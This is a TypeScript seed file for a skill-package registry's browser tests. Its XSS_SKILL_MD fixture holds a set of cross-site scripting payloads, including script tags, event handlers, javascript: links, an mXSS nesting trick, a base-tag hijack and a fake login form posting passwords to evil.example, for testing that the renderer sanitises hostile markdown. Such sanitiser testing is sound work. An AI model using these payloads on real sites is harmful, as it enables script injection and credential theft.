import type { Db } from '@pkgreg/db';

// Packages for the browser tests and the screenshots, inserted straight into the packages table (the
// registry-api under test reads them back through its public API). Self-contained on purpose: the
// screenshots script imports this file with Node's type stripping.

export interface SeedPackage {
  scope: string;
  name: string;
  description: string;
  kind?: 'skill' | 'composite' | 'workflow' | 'app';
  category?: string | null;
  tags?: string[];
  stars?: number;
  indexedDaysAgo?: number;
  status?: 'active' | 'deprecated' | 'delisted';
  verified?: boolean;
  featured?: boolean;
  /** Uploaded (`pkgreg publish <folder>`): no repository, its source named after the package. */
  hosted?: boolean;
  skillMd?: string;
  frontmatter?: Record<string, unknown>;
  allowedTools?: string[];
  compatibility?: string[];
  license?: string | null;
  version?: string | null;
  tokenCount?: number;
  fileCount?: number;
  downloads?: number;
}

export const CODE_REVIEW_SKILL_MD = `---
name: code-review
description: Reviews a diff for bugs, risky changes and missing tests before you merge.
license: MIT
allowed-tools:
  - Read
  - Grep
  - Bash(git diff:*)
metadata:
  version: "2.1.0"
---

# Code review

Review the staged diff the way a careful senior engineer would.

## When to use

- Before opening a pull request
- When a change touches **authentication**, money or data migrations

## Steps

1. Run \`git diff --staged\` and read every hunk.
2. List bugs first, then risky changes, then style.
3. Suggest a test for each bug you find.

\`\`\`bash
git diff --staged --stat
\`\`\`

> Keep comments short and specific. See the [checklist](references/checklist.md) and the
> [Google review guide](https://google.github.io/eng-practices/review/).

| Severity | Meaning |
|---|---|
| blocker | must fix before merge |
| nit | optional |
`;

export const XSS_SKILL_MD = `---
name: xss-demo
description: A hostile SKILL.md.
---

# Totally harmless

<script>window.__pwned = 'script'; alert('script')</script>

<img src="x" onerror="window.__pwned = 'onerror'; alert('onerror')">

<a href="javascript:window.__pwned='href';alert('href')" id="raw-js-link">raw javascript link</a>

<a href="JaVaScRiPt:alert('mixed case')" id="mixed-js-link">mixed case</a>

[markdown javascript link](javascript:alert('md'))

<div onclick="alert('click')" onmouseover="alert('hover')" id="handler-div">hover me</div>

<svg><script>alert('svg')</script><a xlink:href="javascript:alert('svg-link')"><text>svg link</text></a></svg>

<iframe src="javascript:alert('iframe')"></iframe>

<object data="javascript:alert('object')"></object>

<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>

<style>body { display: none !important; }</style>

<base href="https://evil.example/">

<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math>

<p style="position:fixed;inset:0;background:red" id="overlay">styled overlay</p>

[an external link](https://example.com/docs)

[a relative link](references/guide.md)
`;

const ADJECTIVES = ['fast', 'safe', 'smart', 'tiny', 'bold', 'calm', 'lucid', 'keen', 'swift', 'prime'];
const NOUNS = [
  'commit-writer',
  'test-generator',
  'sql-tuner',
  'log-reader',
  'api-designer',
  'doc-writer',
  'bug-hunter',
  'refactorer',
  'release-notes',
  'dep-updater',
];
const SCOPES = ['acme', 'contoso', 'initech', 'globex', 'umbrella'];

/** 40 generated packages plus the named ones the tests open. */
export function seedPackages(): SeedPackage[] {
  const generated: SeedPackage[] = [];
  for (let i = 0; i < 40; i++) {
    const noun = NOUNS[i % NOUNS.length] ?? 'tool';
    const adjective = ADJECTIVES[Math.floor(i / NOUNS.length) % ADJECTIVES.length] ?? 'good';
    generated.push({
      scope: SCOPES[i % SCOPES.length] ?? 'acme',
      name: `${adjective}-${noun}`,
      description: `A ${adjective} ${noun.replace('-', ' ')} skill for coding agents: ${
        ['focused prompts', 'checklists', 'scripts and references', 'step-by-step workflows'][i % 4]
      }.`,
      kind: (['skill', 'skill', 'workflow', 'composite', 'app'] as const)[i % 5],
      category: ['development', 'testing', 'data', 'docs'][i % 4] ?? null,
      stars: (i * 7919) % 5000,
      indexedDaysAgo: (i * 37) % 90,
      tokenCount: 400 + ((i * 131) % 3000),
      license: i % 3 === 0 ? 'Apache-2.0' : 'MIT',
    });
  }
  return [
    {
      scope: 'acme',
      name: 'code-review',
      description: 'Reviews a diff for bugs, risky changes and missing tests before you merge.',
      kind: 'skill',
      category: 'development',
      tags: ['review', 'git', 'quality'],
      stars: 12840,
      indexedDaysAgo: 1,
      verified: true,
      featured: true,
      skillMd: CODE_REVIEW_SKILL_MD,
      frontmatter: {
        name: 'code-review',
        description: 'Reviews a diff for bugs, risky changes and missing tests before you merge.',
        license: 'MIT',
        'allowed-tools': ['Read', 'Grep', 'Bash(git diff:*)'],
        metadata: { version: '2.1.0' },
      },
      allowedTools: ['Read', 'Grep', 'Bash(git diff:*)'],
      compatibility: ['claude-code', 'codex', 'cursor'],
      license: 'MIT',
      version: '2.1.0',
      tokenCount: 1834,
      fileCount: 4,
      downloads: 0,
    },
    {
      scope: 'acme',
      name: 'legacy-lint',
      description: 'Lints with the old rule set. Superseded by @acme/code-review.',
      kind: 'skill',
      category: 'development',
      stars: 310,
      indexedDaysAgo: 40,
      status: 'deprecated',
      license: 'MIT',
      version: '0.9.3',
    },
    {
      scope: 'evil',
      name: 'xss-demo',
      description: 'A SKILL.md full of script injection attempts.',
      kind: 'skill',
      category: 'security',
      stars: 3,
      indexedDaysAgo: 2,
      skillMd: XSS_SKILL_MD,
      frontmatter: { name: 'xss-demo', description: 'A hostile SKILL.md.' },
    },
    {
      scope: 'acme',
      name: 'gone-skill',
      description: 'Delisted: never visible.',
      status: 'delisted',
      stars: 99999,
    },
    ...generated,
  ];
}

function defaultSkillMd(p: SeedPackage): string {
  return `---\nname: ${p.name}\ndescription: ${p.description}\n---\n\n# ${p.name}\n\n${p.description}\n\n## Usage\n\nAsk your agent to use **${p.name}**.\n`;
}

export async function insertPackages(db: Db, packages: SeedPackage[], now = Date.now()): Promise<void> {
  await db
    .insertInto('packages')
    .values(
      packages.map((p) => {
        const indexedAt = new Date(now - (p.indexedDaysAgo ?? 0) * 86_400_000 - 60_000).toISOString();
        return {
          scope: p.scope,
          name: p.name,
          description: p.description,
          kind: p.kind ?? 'skill',
          category: p.category ?? null,
          tags: p.tags ?? [],
          compatibility: p.compatibility ?? [],
          language: 'en',
          version: p.version ?? null,
          source_repo: p.hosted ? `@${p.scope}/${p.name}` : `${p.scope}/skills`,
          source_path: p.hosted ? '' : `skills/${p.name}`,
          source_ref: p.hosted ? '' : 'main',
          repo_url: `https://github.com/${p.scope}/skills`,
          homepage_url: null,
          repo_owner: p.scope,
          author: null,
          repo_stars: p.stars ?? 0,
          license: p.license ?? null,
          skill_md_raw: p.skillMd ?? defaultSkillMd(p),
          frontmatter: JSON.stringify(p.frontmatter ?? { name: p.name, description: p.description }),
          allowed_tools: p.allowedTools ?? [],
          token_count: p.tokenCount ?? 500,
          file_count: p.fileCount ?? 1,
          progressive_disclosure: (p.fileCount ?? 1) > 1,
          download_count: p.downloads ?? 0,
          verified: p.verified ?? false,
          featured: p.featured ?? false,
          status: p.status ?? 'active',
          hosted: p.hosted ?? false,
          first_indexed_at: indexedAt,
          last_indexed_at: indexedAt,
          last_commit_sha: null,
        };
      }),
    )
    .execute();
}
